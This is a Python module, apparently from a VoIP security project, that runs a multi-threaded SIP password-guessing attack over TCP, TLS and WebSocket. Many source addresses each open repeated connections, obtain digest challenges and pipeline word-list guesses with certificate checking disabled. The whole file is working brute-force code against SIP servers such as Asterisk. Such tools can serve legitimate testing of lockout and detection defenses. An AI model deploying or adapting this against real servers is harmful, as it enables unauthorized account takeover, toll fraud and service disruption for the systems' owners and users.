# Copyright (c) 2026, the voipsec.asterisk contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The guesses of cracker.py over TCP, TLS and WebSocket: each source is a thread that connects as often as it can."""
from __future__ import annotations

import base64
import os
import socket
import ssl
import struct
import threading
import time

import cracker
import cracker_requests as requests
import sip
import sip_line

CONNECT_SECONDS, ANSWER_SECONDS = 1.5, 1.0


class Stream:
    """One connection of one source. ``receive`` gives whole SIP messages."""

    def __init__(self, target: str, port: int, address: str, transport: str) -> None:
        self.web = transport in ("ws", "wss")
        self.received, self.frames = b"", b""
        self.socket = socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET, socket.SOCK_STREAM)
        try:
            self.socket.settimeout(CONNECT_SECONDS)
            self.socket.bind((address, 0))
            self.socket.connect((target, port))
            if transport in ("tls", "wss"):
                context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                self.socket = context.wrap_socket(self.socket)
            if self.web:
                self._upgrade(target)
        except BaseException:
            self.socket.close()
            raise

    def _upgrade(self, target: str) -> None:
        """RFC 6455, section 4.1, and RFC 7118."""
        key = base64.b64encode(os.urandom(16)).decode()
        self.socket.sendall(("GET /ws HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
                             "Sec-WebSocket-Protocol: sip\r\nSec-WebSocket-Version: 13\r\n\r\n" % (sip.bracket(target), key)).encode())
        answer = b""
        while b"\r\n\r\n" not in answer:
            data = self.socket.recv(4096)
            if not data:
                raise ConnectionResetError("closed")
            answer += data
        if b" 101 " not in answer.split(b"\r\n", 1)[0]:
            raise ConnectionRefusedError("no WebSocket")
        self.frames = answer.partition(b"\r\n\r\n")[2]

    def send(self, data: bytes) -> None:
        self.socket.settimeout(ANSWER_SECONDS)
        self.socket.sendall(_frame(data) if self.web else data)

    def receive(self, seconds: float) -> bytes:
        """The next message; empty where none came in time. ConnectionResetError: the host has closed."""
        end = time.monotonic() + seconds
        while True:
            message, self.received = sip_line.message_in(self.received)
            if message:
                return message
            left = end - time.monotonic()
            if left <= 0:
                return b""
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65535)
            except (socket.timeout, ssl.SSLWantReadError):
                return b""
            if not data:
                raise ConnectionResetError("closed")
            self._take(data)

    def _take(self, data: bytes) -> None:
        if not self.web:
            self.received += data
            return
        self.frames += data
        while True:
            payload, self.frames = _unframed(self.frames)
            if payload is None:
                return
            self.received += payload

    def close(self) -> None:
        self.socket.close()


def _frame(data: bytes) -> bytes:
    """A masked text frame, with a mask of zeros (RFC 6455, section 5.2)."""
    size = bytes([0x80 | len(data)]) if len(data) < 126 else b"\xfe" + struct.pack("!H", len(data))
    return b"\x81" + size + b"\0\0\0\0" + data


def _unframed(data: bytes):
    """(payload, rest) of the first whole frame; (None, data) where there is none."""
    if len(data) < 4:
        return None, data
    size, at = data[1] & 0x7F, 2
    if size == 126:
        size, at = struct.unpack("!H", data[2:4])[0], 4
    elif size == 127:
        if len(data) < 10:
            return None, data
        size, at = struct.unpack("!Q", data[2:10])[0], 10
    return (data[at:at + size], data[at + size:]) if len(data) >= at + size else (None, data)


class Guesser(threading.Thread):
    """One source."""

    def __init__(self, plan: dict, address: str) -> None:
        super().__init__(daemon=True)
        self.plan, self.address = plan, address
        self.tried = self.opened = self.made = 0

    @property
    def over(self) -> bool:
        plan = self.plan
        return time.monotonic() >= plan["end"] or plan["count"].found is not None or bool(plan["per_source"]) and self.made >= plan["per_source"]

    def run(self) -> None:
        while not self.over:
            self.tried += 1
            try:
                stream = Stream(self.plan["target"], self.plan["port"], self.address, self.plan["transport"])
            except OSError:
                time.sleep(0.02)
                continue
            self.opened += 1
            try:
                self.use(stream)
            except OSError:
                pass
            finally:
                stream.close()

    def use(self, stream: Stream) -> None:
        """Guess until the connection says nothing any more."""
        plan, made = self.plan, 0
        dialog = requests.Dialog(plan["target"], self.address, stream.socket.getsockname()[1], plan["method"], plan["user"], plan["transport"].upper())
        while not self.over and (not plan["of_connection"] or made < plan["of_connection"]):
            if dialog.challenge is None:
                self.ask(stream, dialog)
            for _unused in range(plan["pipelined"]):
                word = self.word()
                if word is None:
                    return
                stream.send(dialog.request(word))
                made, self.made = made + 1, self.made + 1
                plan["count"].sent += 1
            self.listen(stream, dialog)
            time.sleep(plan["gap"])

    def ask(self, stream: Stream, dialog: requests.Dialog) -> None:
        self.plan["count"].asked += 1
        stream.send(dialog.request())
        self.listen(stream, dialog)
        if dialog.challenge is None:
            raise ConnectionResetError("silent")

    def listen(self, stream: Stream, dialog: requests.Dialog) -> None:
        """Read the answers to all that is open."""
        waiting = len(dialog.open) or 1
        while waiting:
            data = stream.receive(ANSWER_SECONDS)
            if not data:
                raise ConnectionResetError("silent")
            answer = requests.Answer.of(data)
            if answer is None or answer.status < 200 or answer.call_id != dialog.call_id:
                continue
            waiting -= 1
            self.read(stream, dialog, answer)

    def read(self, stream: Stream, dialog: requests.Dialog, answer: requests.Answer) -> None:
        if dialog.acknowledgement(answer):
            stream.send(dialog.acknowledgement(answer))
        secret = dialog.open.pop(answer.cseq, None)
        with self.plan["lock"]:
            if secret:
                self.plan["count"].answer(self.address, answer.status, answer.stale, secret)
            self.plan["count"].challenged += answer.challenge is not None
        if answer.challenge:
            dialog.challenge = answer.challenge
        elif not dialog.open:
            dialog.renew()

    def word(self):
        with self.plan["lock"]:
            word = next(self.plan["words"], None)
        return None if word is None else str(word)


def crack(target, port, user, sources, transport, method, words, per_source, seconds, gap, pipelined, of_connection):
    """See ``cracker.crack``; the result also has ``connections`` (tried, opened)."""
    count = cracker.Count()
    plan = {"target": target, "port": port, "user": user, "transport": transport, "method": method, "words": words, "per_source": per_source,
            "end": time.monotonic() + seconds, "gap": gap, "pipelined": pipelined, "of_connection": of_connection, "count": count, "lock": threading.Lock()}
    crowd = [Guesser(plan, address) for address in sources]
    for one in crowd:
        one.start()
    for one in crowd:
        one.join(max(0.1, plan["end"] + 5 - time.monotonic()))
    return count.result(sources=len(sources), connections={"tried": sum(one.tried for one in crowd), "opened": sum(one.opened for one in crowd)})
